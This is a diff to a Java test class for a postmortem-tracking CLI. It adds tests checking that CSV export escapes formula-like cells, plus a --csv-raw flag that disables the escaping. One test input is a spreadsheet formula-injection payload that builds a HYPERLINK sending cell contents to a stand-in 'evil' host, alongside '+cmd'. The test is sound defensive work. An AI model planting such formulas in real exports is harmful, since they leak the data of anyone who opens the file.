@@ -625,13 +625,45 @@ class OverdueCommandTest {
         assertThat(lines).hasSize(1 + 8 + 1);
         assertThat(lines[lines.length - 1]).isEmpty();
         assertThat(r.out()).doesNotContain("\n\n").doesNotContainPattern("[^\r]\n");
-        assertThat(lines[1]).isEqualTo("postmortems/2025-02-01-db.md,Database failover,Capacity review,@lee,"
+        // an @handle starts with '@', which a spreadsheet reads as a formula: it gets a ' (see --csv-raw)
+        assertThat(lines[1]).isEqualTo("postmortems/2025-02-01-db.md,Database failover,Capacity review,'@lee,"
                 + "2024-12-19,P3,open,91,action-item");
         assertThat(lines).contains("postmortems/2025-03-10-cache.md,\"Cache stampede, \"\"again\"\"\","
-                + "\"Coalesce requests, with \"\"jitter\"\"\",@lee,2025-03-12,P2,open,8,action-item");
+                + "\"Coalesce requests, with \"\"jitter\"\"\",'@lee,2025-03-12,P2,open,8,action-item");
         assertThat(lines).contains("postmortems/2025-03-10-cache.md,\"Cache stampede, \"\"again\"\"\","
-                + "Load test,@sam,,P1,open,,no-due-date");
+                + "Load test,'@sam,,P1,open,,no-due-date");
         assertThat(r.err()).isEqualTo("pm overdue: read 2, skipped 0, 6 overdue\n");
+    }
+
+    @Test
+    void csvCellsThatWouldRunAsFormulasStartWithAQuoteUnlessCsvRaw() throws Exception {
+        write("postmortems/a.md", pm("\"-2+3\"").item("\"=HYPERLINK(\\\"http://evil/?\\\"&A1,\\\"x\\\")\"", "@bob",
+                "2025-03-01", "P1", "open").item("Plain", "+cmd", "2025-03-25", "P2", "open"));
+        commitAll("formulas");
+        Cli.Result r = run("overdue", "--format", "csv", "--due-within", "5");
+        assertThat(r.code()).as(r.toString()).isZero();
+        assertThat(r.out().split("\r\n")).containsExactly(
+                "file,postmortem,title,owner,due,priority,status,daysOverdue,kind",
+                "postmortems/a.md,'-2+3,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'@bob,2025-03-01,P1,open,19,"
+                        + "action-item",
+                "postmortems/a.md,'-2+3,Plain,'+cmd,2025-03-25,P2,open,-5,action-item");
+
+        Cli.Result raw = run("overdue", "--format", "csv", "--due-within", "5", "--csv-raw");
+        assertThat(raw.code()).as(raw.toString()).isZero();
+        assertThat(raw.out()).isEqualTo(r.out().replace(",'", ",").replace("\"'", "\""));
+        assertThat(raw.out()).contains(",-2+3,\"=HYPERLINK(").contains(",@bob,").contains(",+cmd,");
+    }
+
+    @Test
+    void csvRawWithAnotherFormatIsAUsageError() {
+        for (String format : List.of("table", "markdown", "json")) {
+            Cli.Result r = run("overdue", "--format", format, "--csv-raw");
+            assertThat(r.code()).as(r.toString()).isEqualTo(2);
+            assertThat(r.err()).isEqualTo("pm: --csv-raw only changes --format csv; add --format csv or drop "
+                    + "--csv-raw\n");
+            assertThat(r.out()).isEmpty();
+        }
+        assertThat(run("overdue", "--csv-raw").code()).isEqualTo(2);
     }
 
     @Test
@@ -812,7 +844,8 @@ class OverdueCommandTest {
         Cli.Result r = run("overdue", "--help");
         assertThat(r.code()).isZero();
         assertThat(r.out()).startsWith("Usage: pm overdue").contains("--fail-on-overdue").contains("--rev")
-                .contains("--include-untracked").contains("--no-git").contains("--due-within").contains("Exit status");
+                .contains("--include-untracked").contains("--no-git").contains("--due-within").contains("--csv-raw")
+                .contains("Exit status");
         assertThat(run("--help").out()).contains("overdue");
     }
 }
